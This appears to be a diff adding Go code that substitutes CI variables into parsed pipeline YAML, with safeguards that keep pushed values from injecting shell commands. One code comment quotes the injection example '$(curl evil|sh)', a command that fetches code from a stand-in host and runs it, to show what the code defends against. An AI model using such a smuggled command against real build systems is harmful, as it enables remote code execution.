@@ -1,0 +1,221 @@
+package pipeline
+
+import (
+	"errors"
+	"fmt"
+	"regexp"
+	"strings"
+
+	"github.com/drone/envsubst"
+	"go.yaml.in/yaml/v4"
+)
+
+// Variables, `${CI_COMMIT_SHA:0:8}` and the like, are replaced in the scalars
+// of a file after its YAML was read, never in its text: a commit message or a
+// branch's name comes from whoever pushes, and must not become keys, steps or
+// a syntax error.
+//
+// The same holds one level down, for the shell. In what a shell is given to
+// run, a value is put in only if no shell could read anything but a word in
+// it. Any other expression is left as it stands, for the shell to expand: the
+// same variables are in its environment, and what a shell expands it does not
+// run. So a merge commit called "$(curl evil|sh)" is text wherever it goes.
+//
+// Only the names of CI_* variables are replaced; `${HOME}` is the shell's.
+// `$${NAME}` stands for `${NAME}`.
+
+// use says what a scalar is for.
+type use int
+
+const (
+	plain use = iota // a value that is taken as it is
+	shell            // run by a shell
+)
+
+const (
+	// maxExpression is the longest `${…}` that is looked at.
+	maxExpression = 512
+	// maxSubstitution bounds the work of all substitutions of one file, in
+	// steps of matching a prefix or suffix, the costliest operation.
+	maxSubstitution = 200 << 20
+	// maxExpanded bounds the bytes that variables may add to one file.
+	maxExpanded = 8 << 20
+)
+
+// substituter replaces variables in the scalars of one file.
+type substituter struct {
+	vars    map[string]string // known ones that have a value
+	dialect dialect
+	work    int
+	grown   int
+}
+
+func newSubstituter(vars map[string]string, d dialect) *substituter {
+	return &substituter{vars: vars, dialect: d}
+}
+
+// substitute returns the value of a scalar with its variables replaced, and
+// reports what cannot be.
+func (d *decoder) substitute(n *yaml.Node, u use) string {
+	if !strings.Contains(n.Value, "$") && (d.doc.dialect == slipway || !strings.Contains(n.Value, `\`)) {
+		return n.Value
+	}
+	s, problems := d.vars.expand(n.Value, u, n.Style&yaml.DoubleQuotedStyle != 0)
+	for _, p := range problems {
+		d.report(n, p, "")
+	}
+	return s
+}
+
+// expand replaces the variables in s. quoted says that s stood in double
+// quotes, whose backslashes were YAML's.
+func (s *substituter) expand(in string, u use, quoted bool) (out string, problems []string) {
+	var b strings.Builder
+	for {
+		i := strings.Index(in, "${")
+		if i < 0 {
+			break
+		}
+		if trailingDollars(in[:i])%2 == 1 {
+			// `$${`: one dollar is the escape.
+			b.WriteString(s.unescape(in[:i-1], quoted))
+			b.WriteString("${")
+			in = in[i+2:]
+			continue
+		}
+		b.WriteString(s.unescape(in[:i], quoted))
+		length := expressionLength(in[i:])
+		if length == 0 {
+			b.WriteString("${")
+			in = in[i+2:]
+			continue
+		}
+		v, err := s.expression(in[i:i+length], u)
+		if err != nil {
+			problems = append(problems, err.Error())
+		}
+		b.WriteString(v)
+		in = in[i+length:]
+	}
+	b.WriteString(s.unescape(in, quoted))
+	return b.String(), problems
+}
+
+func trailingDollars(s string) int { return len(s) - len(strings.TrimRight(s, "$")) }
+
+// unescape resolves the escapes of text between expressions. Ours has none but
+// `$${`; Woodpecker turns `$$` into `$` everywhere, and `\\` and `\/` into
+// their second character, and its users write accordingly.
+func (s *substituter) unescape(text string, quoted bool) string {
+	if s.dialect != woodpecker {
+		return text
+	}
+	text = strings.ReplaceAll(text, "$$", "$")
+	if !quoted {
+		text = strings.NewReplacer(`\\`, `\`, `\/`, `/`).Replace(text)
+	}
+	return text
+}
+
+// expressionLength returns the length of the `${…}` that s begins with, with
+// others nested in it; 0 if it is not closed or too long.
+func expressionLength(s string) int {
+	depth := 0
+	for i := 0; i < len(s) && i < maxExpression; i++ {
+		switch {
+		case s[i] == '$' && i+1 < len(s) && s[i+1] == '{':
+			depth++
+			i++
+		case s[i] == '}':
+			if depth--; depth == 0 {
+				return i + 1
+			}
+		}
+	}
+	return 0
+}
+
+var (
+	// variableNames finds the variables that an expression mentions.
+	variableNames = regexp.MustCompile(`\$\{#?([A-Za-z_][A-Za-z0-9_]*)`)
+	// unsupported are operators of the shell that envsubst reads and gets
+	// wrong: it takes ${X:+y} for ${X:-y}.
+	unsupported = regexp.MustCompile(`\$\{[A-Za-z0-9_]+:[+?]`)
+	// harmless is a value that every shell takes for a plain piece of a word,
+	// quoted or not. It lacks `=`, which could make an assignment.
+	harmless = regexp.MustCompile(`^[A-Za-z0-9_./:@%+,-]*$`)
+)
+
+// expression returns what takes the place of one `${…}`.
+func (s *substituter) expression(expr string, u use) (string, error) {
+	names := variableNames.FindAllStringSubmatch(expr, -1)
+	if len(names) == 0 {
+		return expr, nil
+	}
+	for _, m := range names {
+		if !isVariable(m[1]) {
+			return s.foreign(expr, u), nil
+		}
+	}
+	v, err := s.evaluate(expr, names)
+	switch {
+	case u == shell && (err != nil || !harmless.MatchString(v)):
+		return expr, nil
+	case err != nil:
+		return expr, fmt.Errorf("`%s` cannot be replaced: %w", clip(expr), err)
+	}
+	return v, nil
+}
+
+// foreign returns what takes the place of an expression that mentions a
+// variable which is none of ours. Woodpecker replaces it by nothing. We leave
+// it: in commands that is what its author means, and elsewhere it shows.
+func (s *substituter) foreign(expr string, u use) string {
+	if s.dialect == woodpecker && u == plain {
+		return ""
+	}
+	return expr
+}
+
+var (
+	errOperator = errors.New("its operator is not supported")
+	errTooMuch  = errors.New("it is too much work; do it in a command")
+	errSyntax   = errors.New("it is not well-formed")
+)
+
+func (s *substituter) evaluate(expr string, names [][]string) (v string, err error) {
+	if unsupported.MatchString(expr) {
+		return "", errOperator
+	}
+	longest, sum := 0, 0
+	for _, m := range names {
+		longest = max(longest, len(s.vars[m[1]]))
+		sum += len(s.vars[m[1]])
+	}
+	work := len(expr) + sum
+	if strings.ContainsAny(expr[2:], "#%") {
+		work = longest * longest * len(expr)
+	}
+	if strings.Contains(expr[2:], "/") {
+		// A replacement may stand for every byte of the value.
+		work += longest * (sum + len(expr))
+		s.grown += longest * (sum + len(expr))
+	}
+	s.work += work
+	s.grown += sum
+	if s.work > maxSubstitution || s.grown > maxExpanded {
+		s.work -= work // a cheaper one may still do
+		return "", errTooMuch
+	}
+	// envsubst slices out of range for ${X:3:-2}.
+	defer func() {
+		if recover() != nil {
+			v, err = "", errSyntax
+		}
+	}()
+	v, err = envsubst.Eval(expr, func(name string) string { return s.vars[name] })
+	if err != nil {
+		return "", errSyntax
+	}
+	return v, nil
+}
